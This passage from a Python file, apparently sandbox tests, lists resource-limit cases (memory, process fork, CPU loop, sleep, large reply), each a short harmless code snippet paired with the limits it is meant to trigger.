        {"processes": 64, "memory_bytes": 8_000_000_000},
        {"memory_bytes": 8_000_000_000},
    ),
    "processes": Flood("    import os\n    if os.fork() == 0:\n        os._exit(0)\n    os.wait()", {}, filtered=False),
    "loop": Flood(
        "    import time\n    end = time.process_time() + 0.3\n    while time.process_time() < end:\n        pass",
        {"cpu_seconds": 10.0},
        {"cpu_seconds": 0.2},
    ),
    "sleep": Flood("    import time\n    time.sleep(0.3)", {"wall_seconds": 30.0}, {"wall_seconds": 0.2}),
    "reply": Flood("    return np.zeros(2_000_000), (x, w)", {"reply_bytes": 200_000_000}),
}
